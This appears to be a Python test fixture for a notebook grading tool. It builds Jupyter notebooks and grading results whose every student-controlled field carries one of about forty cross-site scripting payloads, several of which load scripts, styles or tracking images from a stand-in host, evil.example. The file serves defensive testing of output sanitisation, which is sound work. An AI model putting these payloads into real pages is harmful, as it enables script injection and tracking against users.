"""What students might write so that it runs in somebody else's page; each tries to call `pwned`."""

from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)

PAYLOADS = {
    "script": "<script>pwned()</script>",
    "script in capitals": "<ScRiPt >pwned()</sCrIpT>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "half a script": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "onerror": '<img src="x" onerror="pwned()">',
    "onerror without quotes": "<img src=x onerror=pwned()//",
    "onload of svg": '<svg onload="pwned()"><circle r="9"/></svg>',
    "script in svg": "<svg><script>pwned()</script></svg>",
    "svg in a picture": '<img src="data:image/svg+xml,<svg onload=pwned()>">',
    "animated link in svg": '<svg><a><animate attributeName="href" values="javascript:pwned()"/>'
                            '<text x="9" y="9">x</text></a></svg>',
    "iframe": '<iframe src="javascript:pwned()"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "object": '<object data="javascript:pwned()"></object><embed src="javascript:pwned()">',
    "link": '<a href="javascript:pwned()">click</a>',
    "link with a tab": '<a href="java\tscript:pwned()">click</a>',
    "link in entities": '<a href="&#106;avascript&colon;pwned()">click</a>',
    "link of Markdown": "[click](javascript:pwned())",
    "link of Markdown in entities": "[click](&#106;avascript:pwned())",
    "link by reference": "[click][1]\n\n[1]: javascript:pwned()",
    "autolink": "<javascript:pwned()>",
    "picture of Markdown": '![x](x "\\" onerror=\\"pwned()")',
    "picture that tells": "![x](https://evil.example/seen.png)",
    "data link": '<a href="data:text/html,<script>pwned()</script>">click</a>',
    "style": "<style>@import 'https://evil.example/x.css'; body {display: none}</style>",
    "style expression": '<p style="width: expression(pwned()); position: fixed; inset: 0">x</p>',
    "out of an attribute": '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "out of a tag": "'></code></pre></td></table></div><script>pwned()</script>",
    "out of a title": "</title></style></textarea><script>pwned()</script>",
    "out of a comment": "<!--><script>pwned()</script>-->",
    "CDATA": "<![CDATA[<script>pwned()</script>]]>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
                'onerror=pwned()&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "form": '<form action="javascript:pwned()"><button formaction="javascript:pwned()">x</form>',
    "refresh": '<meta http-equiv="refresh" content="0; url=javascript:pwned()">',
    "base": '<base href="https://evil.example/">',
    "details": "<details open ontoggle=pwned()><summary>x</summary></details>",
    "formula with a link": r"$\href{javascript:pwned()}{x}$",
    "formula with a tag": r"$\text{<img src=x onerror=pwned()>}$",
    "formula of display": "$$\\begin{matrix}<script>pwned()</script>\\end{matrix}$$",
    "template": "{{ cell.__class__ }} {% raw %} <script>pwned()</script>",
    "terminal": "\x1b[31m<script>pwned()</script>\x1b[0m"
                "\x1b]8;;javascript:pwned()\x07x\x1b]8;;\x07",
}


def cells_with(payload):
    """Cells that have `payload` wherever a student can put a text."""
    said = {"nbgrader": {"grade_id": "x", "solution": True, "grade": False, "locked": False,
                         "task": False, "schema_version": 3, "comment": payload},
            "alt": payload}
    outputs = [
        new_output("stream", name="stdout", text=payload),
        new_output("stream", name="stderr", text=f"\x1b[1;31m{payload}\x1b[0m"),
        new_output("error", ename=payload, evalue=payload,
                   traceback=[payload, f"File {payload}, line 1, in {payload}()"]),
        *[new_output("display_data", data={mime: payload}, metadata={mime: {"alt": payload}})
          for mime in ("text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml",
                       "image/png", "image/jpeg", "application/javascript", "text/vnd.mermaid")],
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {
            "model_id": payload, "version_major": 2, "version_minor": 0}}),
        new_output("display_data", data={"image/png": "iVBORw0KGgo="},
                   metadata={"image/png": {"alt": payload, "width": payload, "height": payload}}),
    ]
    code = new_code_cell(f"def f():\n    return '''{payload}'''", outputs=outputs, metadata=said)
    return [new_markdown_cell(payload, metadata=said), code, new_raw_cell(payload)]


def notebook_with(*payloads):
    """A notebook of such cells."""
    found = new_notebook(cells=[cell for payload in payloads for cell in cells_with(payload)])
    for number, cell in enumerate(found.cells):
        cell["id"] = f"cell-{number}"
    return found


def result_with(lesson, payload):
    """A result that quotes `payload` wherever a result can quote a student."""
    row = {"label": payload, "expected": "1", "got": payload, "ok": False}
    entry = {"points": 0, "max_points": 2, "status": "wrong", "message": payload,
             "diagnosis": payload, "mistake": "", "seconds": 0.1, "rows": [row], "more_rows": 1,
             "remarks": [payload], "hint": payload}
    bare = {**entry, "rows": [], "remarks": [], "diagnosis": "", "status": "stopped",
            "message": f"x\n{payload}"}
    return {"schema": 1, "student": payload, "lesson": lesson.folder, "status": "graded",
            "message": payload, "points": 0, "max_points": 4, "seconds": 0.2, "notes": [payload],
            "exercises": [{"exercise": payload, **entry}, {"exercise": "x", **bare}]}
